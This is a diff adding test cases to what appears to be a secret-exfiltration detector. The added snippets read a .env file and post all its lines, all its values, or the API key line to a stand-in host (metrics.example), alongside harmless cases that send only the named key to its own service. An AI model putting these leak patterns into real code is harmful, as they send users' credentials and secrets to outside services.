@@ -281,6 +281,55 @@ def test_a_key_that_goes_to_another_service_is_read_first() -> None:
     assert dict(concern.facts) == {"what": "OPENAI_API_KEY", "host": "metrics.example"}
 
 
+OF_VARIABLES = {
+    "all lines but one": ("""
+        import requests
+        for line in open(".env"):
+            if line.startswith("OPENAI_API_KEY="):
+                print("found")
+            requests.post("https://api.openai.com/v1", data=line)
+        """, ".env", STOP),
+    "all, where it begins with one": ("""
+        import requests
+        text = open(".env").read()
+        if text.startswith("OPENAI_API_KEY="):
+            requests.post("https://api.openai.com/v1", data=text)
+        """, ".env", STOP),
+    "all, by the name of a line": ("""
+        import requests
+        for line in open(".env"):
+            line = open(".env").read()
+            if line.startswith("OPENAI_API_KEY="):
+                requests.post("https://api.openai.com/v1", data=line)
+        """, ".env", STOP),
+    "all values": ("""
+        import requests
+        for line in open(".env"):
+            name, value = line.split("=", 1)
+            if name != "OPENAI_API_KEY":
+                requests.post("https://api.openai.com/v1", data=value)
+        """, ".env", STOP),
+    "what follows the first": ("""
+        import requests
+        name, value = open(".env").read().split("=", 1)
+        if name == "OPENAI_API_KEY":
+            requests.post("https://api.openai.com/v1", data=value)
+        """, ".env", STOP),
+    "one to another service": ("""
+        import requests
+        for line in open(".env"):
+            if line.startswith("OPENAI_API_KEY="):
+                requests.post("https://metrics.example/v1", data=line)
+        """, "OPENAI_API_KEY", READ_FIRST),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "what", "level"), OF_VARIABLES.values(), ids=OF_VARIABLES)
+def test_of_a_file_of_variables_more_than_a_named_one_is_sent(text: str, what: str, level: AlarmLevel) -> None:
+    (concern,) = found(text)
+    assert (dict(concern.facts)["what"], concern.level) == (what, level)
+
+
 HARMLESS = {
     "a key to its own service": """
         import os, requests
@@ -337,6 +386,31 @@ HARMLESS = {
         import importlib, requests
         Path("words.txt").write_bytes(requests.get("http://d.example/words.txt").content)
         importlib.import_module(name)
+        """,
+    "a key by its name in the lines of a file of variables": """
+        import requests
+        def key():
+            with open(".env", "r") as file:
+                for line in file:
+                    line = line.strip()
+                    if line.startswith("OPENAI_API_KEY="):
+                        return line.split("=", 1)[1].strip()
+        requests.post("https://api.openai.com/v1", headers={"Authorization": f"Bearer {key()}"})
+        """,
+    "a key by its name before a sign": """
+        import requests
+        from pathlib import Path
+        for line in Path(".env").read_text().splitlines():
+            if "=" in line:
+                name, value = line.strip().split("=", 1)
+                if name.strip() == "OPENAI_API_KEY":
+                    requests.post("https://api.openai.com/v1", headers={"Authorization": value})
+        """,
+    "a key by its name of all that a file sets": """
+        import requests
+        kept = dict(line.split("=", 1) for line in open(".env").read().splitlines())
+        requests.post("https://api.openai.com/v1", headers={"X-Key": kept["OPENAI_API_KEY"]})
+        requests.post("https://api.openai.com/v1", headers={"X-Key": kept.get("OPENAI_API_KEY")})
         """,
     "a function by its name": """
         import builtins, json
